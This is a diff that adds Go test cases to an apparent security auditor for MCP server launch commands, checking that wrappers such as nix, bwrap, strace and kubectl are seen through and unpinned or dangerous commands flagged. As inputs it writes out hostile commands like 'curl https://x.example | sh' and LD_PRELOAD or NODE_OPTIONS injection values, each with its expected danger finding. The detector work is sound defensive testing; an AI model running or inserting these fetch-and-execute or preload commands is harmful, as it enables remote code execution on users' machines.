@@ -1,6 +1,7 @@
 package assess_test
 
 import (
+	"fmt"
 	"strings"
 	"testing"
 
@@ -192,6 +193,122 @@ func TestAuditCredentialMounts(t *testing.T) {
 		{"a look-alike name", stdio("docker", "run", "-v", "/data/.aws-cache:/c", "img:1"), []string{}, true, false},
 		{"a named volume", stdio("docker", "run", "-v", "awscreds:/root/.aws", "img:1"), []string{}, true, false},
 		{"the target alone is a credential path", stdio("docker", "run", "-v", "/srv/cfg:/root/.kube", "img:1"), []string{}, true, false},
+	})
+}
+
+// TestAuditMoreWrappers holds the wrappers that run a command line in a
+// prepared environment, a sandbox, a tracer or under a lock: each is peeled
+// by its own options, and an unpinned npx behind it is found at its word.
+// Before ruleset 2026.12.6 every one of these passed with no finding.
+func TestAuditMoreWrappers(t *testing.T) {
+	npx := func(i int) []string { return []string{fmt.Sprintf("warn unpinned mcp.args[%d]", i)} }
+	runCases(t, []auditCase{
+		{"nix develop --command", stdio("nix", "develop", "-c", "npx", "pkg"), npx(3), true, false},
+		{"devbox run", stdio("devbox", "run", "-c", "/p", "npx", "pkg"), npx(4), true, false},
+		{"volta run with a version", stdio("volta", "run", "--node", "20", "npx", "pkg"), npx(4), true, false},
+		{"fnm exec", stdio("fnm", "exec", "--using", "20", "npx", "pkg"), npx(4), true, false},
+		{"nvm exec with a version", stdio("nvm", "exec", "20", "npx", "pkg"), npx(3), true, false},
+		{"pyenv exec", stdio("pyenv", "exec", "npx", "pkg"), npx(2), true, false},
+		{"bundle exec", stdio("bundle", "exec", "npx", "pkg"), npx(2), true, false},
+		{"rustup run", stdio("rustup", "run", "stable", "npx", "pkg"), npx(3), true, false},
+		{"opam exec --", stdio("opam", "exec", "--switch", "default", "--", "npx", "pkg"), npx(5), true, false},
+		{"firejail", stdio("firejail", "--noprofile", "--net=none", "npx", "pkg"), npx(3), true, false},
+		{"bwrap with binds", stdio("bwrap", "--ro-bind", "/", "/", "--overlay", "a", "b", "/c", "--unshare-all", "npx", "pkg"), npx(9), true, false},
+		{"unshare", stdio("unshare", "-r", "-w", "/tmp", "npx", "pkg"), npx(4), true, false},
+		{"chroot", stdio("chroot", "--userspec=1:1", "/srv/root", "npx", "pkg"), npx(3), true, false},
+		{"sandbox-exec", stdio("sandbox-exec", "-p", "(version 1)", "npx", "pkg"), npx(3), true, false},
+		{"strace", stdio("strace", "-f", "-o", "/tmp/t", "npx", "pkg"), npx(4), true, false},
+		{"ltrace", stdio("ltrace", "-o", "/tmp/t", "npx", "pkg"), npx(3), true, false},
+		{"valgrind", stdio("valgrind", "--tool=memcheck", "npx", "pkg"), npx(2), true, false},
+		{"xargs", stdio("xargs", "-n", "1", "npx", "pkg"), npx(3), true, false},
+		{"systemd-run", stdio("systemd-run", "--user", "--scope", "-p", "MemoryMax=1G", "npx", "pkg"), npx(5), true, false},
+		{"setpriv", stdio("setpriv", "--reuid", "1000", "--no-new-privs", "npx", "pkg"), npx(4), true, false},
+		{"numactl", stdio("numactl", "-N", "0", "npx", "pkg"), npx(3), true, false},
+		{"cpulimit", stdio("cpulimit", "-l", "50", "--", "npx", "pkg"), npx(4), true, false},
+		{"arch", stdio("arch", "-x86_64", "npx", "pkg"), npx(2), true, false},
+		{"faketime", stdio("faketime", "2020-01-01", "npx", "pkg"), npx(2), true, false},
+		{"watch -x", stdio("watch", "-x", "npx", "pkg"), npx(2), true, false},
+		{"flock FILE command", stdio("flock", "-w", "5", "/tmp/l", "npx", "pkg"), npx(4), true, false},
+		{"corepack starts pnpm", stdio("corepack", "pnpm@8.15.0", "dlx", "pkg"), npx(2), true, false},
+		{"kubectl exec --", stdio("kubectl", "exec", "-i", "-n", "ns", "deploy/mcp", "--", "npx", "pkg"), npx(7), true, false},
+		{"proxychains", stdio("proxychains4", "-q", "npx", "pkg"), npx(2), true, false},
+
+		// Environment options of wrappers are judged.
+		{"devbox run -e", stdio("devbox", "run", "-e", "NODE_OPTIONS=--require /tmp/x.js", "srv"), []string{
+			"danger forbidden_env mcp.args[2]"}, true, false},
+		{"volta run --env=", stdio("volta", "run", "--env=LD_PRELOAD=/tmp/x.so", "srv"), []string{
+			"danger forbidden_env mcp.args[1]"}, false, false},
+		{"bwrap --setenv", stdio("bwrap", "--setenv", "LD_PRELOAD", "/tmp/x.so", "srv"), []string{
+			"danger forbidden_env mcp.args[2]"}, false, false},
+		{"strace -E", stdio("strace", "-E", "PYTHONPATH=/tmp", "srv"), []string{"danger forbidden_env mcp.args[1]"}, false, false},
+
+		// Scripts handed to a shell.
+		{"script -c", stdio("script", "-q", "-c", "npx pkg", "/dev/null"), []string{
+			"danger shell_exec mcp.args[2]", "warn unpinned mcp.args[2]"}, true, true},
+		{"script -qc, the file first", stdio("script", "/dev/null", "-qc", "npx pkg"), []string{
+			"danger shell_exec mcp.args[2]", "warn unpinned mcp.args[2]"}, true, true},
+		{"strace -fo FILE, a cluster", stdio("strace", "-fo", "/tmp/t", "npx", "pkg"), npx(3), true, false},
+		{"strace -fo/tmp/t, joined", stdio("strace", "-fo/tmp/t", "npx", "pkg"), npx(2), true, false},
+		{"arch's words are not clusters", stdio("arch", "-arm64e", "npx", "pkg"), npx(2), true, false},
+		{"flock FILE -c", stdio("flock", "/tmp/l", "-c", "npx pkg"), []string{
+			"danger shell_exec mcp.args[2]", "warn unpinned mcp.args[2]"}, true, true},
+		{"flox activate -c", stdio("flox", "activate", "-c", "npx pkg"), []string{
+			"danger shell_exec mcp.args[2]", "warn unpinned mcp.args[2]"}, true, true},
+		{"watch reads a line", stdio("watch", "-n", "5", "curl", "https://x.example", "|", "sh"), []string{
+			"danger fetch_exec mcp.args[2]", "danger pipe_to_shell mcp.args[2]", "warn shell_meta mcp.args[2]"}, true, true},
+		{"sg group -c", stdio("sg", "docker", "-c", "npx pkg"), npx(2), true, true},
+		{"nvm run starts node", stdio("nvm", "run", "20", "-e", "require('x')"), []string{"danger inline_code mcp.args[3]"}, false, false},
+		{"runuser -u", stdio("runuser", "-u", "svc", "--", "npx", "pkg"), []string{
+			"danger privilege_escalation mcp.command", "warn unpinned mcp.args[4]"}, true, false},
+		{"kubectl run pulls an image", stdio("kubectl", "run", "m", "--image=busybox", "-i", "--", "sh", "-c", "curl x | sh"), []string{
+			"danger fetch_exec mcp.args[7]", "danger pipe_to_shell mcp.args[7]", "danger shell_exec mcp.args[7]",
+			"warn shell_meta mcp.args[7]", "warn unpinned mcp.args[2]"}, true, true},
+
+		// Look-alikes: the tools' other uses run nothing of the wiring's.
+		{"volta install", stdio("volta", "install", "node"), []string{}, false, false},
+		{"pyenv install", stdio("pyenv", "install", "3.12"), []string{}, false, false},
+		{"bundle install", stdio("bundle", "install"), []string{}, false, false},
+		{"watch alone", stdio("watch"), []string{}, false, false},
+		{"flock on a descriptor", stdio("flock", "9"), []string{}, false, false},
+		{"script without -c", stdio("script", "-q", "/dev/null"), []string{}, false, false},
+		{"corepack enable", stdio("corepack", "enable"), []string{}, false, false},
+		{"kubectl get", stdio("kubectl", "get", "pods"), []string{}, true, false},
+		{"flox activate alone", stdio("flox", "activate", "-d", "/p"), []string{}, false, false},
+	})
+}
+
+// TestAuditNix holds nix's runners: the flakes they fetch must name a
+// commit or a hash, and what --command and nix-shell's --run run is judged.
+func TestAuditNix(t *testing.T) {
+	const commit = "0123456789abcdef0123456789abcdef01234567"
+	runCases(t, []auditCase{
+		{"nix run of a branch", stdio("nix", "run", "github:o/mcp"), []string{"warn unpinned mcp.args[1]"}, true, false},
+		{"nix run after global options", stdio("nix", "--extra-experimental-features", "nix-command flakes", "run", "github:o/mcp", "--", "--x"), []string{
+			"warn unpinned mcp.args[3]"}, true, false},
+		{"nix run at a commit", stdio("nix", "run", "github:o/mcp/"+commit), []string{}, true, false},
+		{"nix run at ?rev=", stdio("nix", "run", "git+https://x.example/r?ref=main&rev="+commit), []string{}, true, false},
+		{"nix run of an archive at a commit", stdio("nix", "run", "https://x.example/o/r/archive/"+commit+".tar.gz#srv"), []string{}, true, false},
+		{"nix run by narHash", stdio("nix", "run", "https://x.example/r.tar.gz?narHash=sha256-abc"), []string{}, true, false},
+		{"nix run of a tag", stdio("nix", "run", "github:o/mcp/v1.2.0"), []string{"warn unpinned mcp.args[1]"}, true, false},
+		{"nix run of nixpkgs", stdio("nix", "run", "nixpkgs#hello"), []string{"warn unpinned mcp.args[1]"}, true, false},
+		{"nix run of nixpkgs at a commit", stdio("nix", "run", "nixpkgs/"+commit+"#hello"), []string{}, true, false},
+		{"nix run of a local flake", stdio("nix", "run", ".#srv"), []string{}, true, false},
+		{"nix run of a path", stdio("nix", "run", "path:/srv/flake"), []string{}, true, false},
+		{"nix run of an expression", stdio("nix", "run", "-f", "<nixpkgs>", "hello"), []string{}, true, false},
+		{"the app's own words are not flakes", stdio("nix", "run", "."+"#srv", "github:x/y"), []string{}, true, false},
+		{"nix shell hides nothing", stdio("nix", "shell", "nixpkgs#curl", "-c", "bash", "-c", "curl https://x.example | sh"), []string{
+			"danger fetch_exec mcp.args[5]", "danger pipe_to_shell mcp.args[5]", "danger shell_exec mcp.args[5]",
+			"warn shell_meta mcp.args[5]", "warn unpinned mcp.args[1]"}, true, true},
+		{"nix shell of two flakes", stdio("nix", "shell", "--impure", "nixpkgs#a", "github:o/b/"+commit, "--command", "srv"), []string{
+			"warn unpinned mcp.args[2]"}, true, false},
+		{"nix-shell --run", stdio("nix-shell", "-p", "nodejs", "--run", "npx -y pkg"), []string{
+			"danger shell_exec mcp.args[3]", "warn unpinned mcp.args[3]"}, true, true},
+		{"nix-shell of a URL", stdio("nix-shell", "https://x.example/r/archive/main.tar.gz", "--command", "srv"), []string{
+			"danger shell_exec mcp.args[2]", "warn unpinned mcp.args[0]"}, true, true},
+		{"nix-shell of a URL at a commit", stdio("nix-shell", "https://x.example/r/archive/"+commit+".tar.gz", "--run", "srv"), []string{
+			"danger shell_exec mcp.args[2]"}, true, true},
+		{"nix build runs nothing", stdio("nix", "build", "github:o/mcp"), []string{}, false, false},
+		{"nix --version", stdio("nix", "--version"), []string{}, false, false},
 	})
 }
 
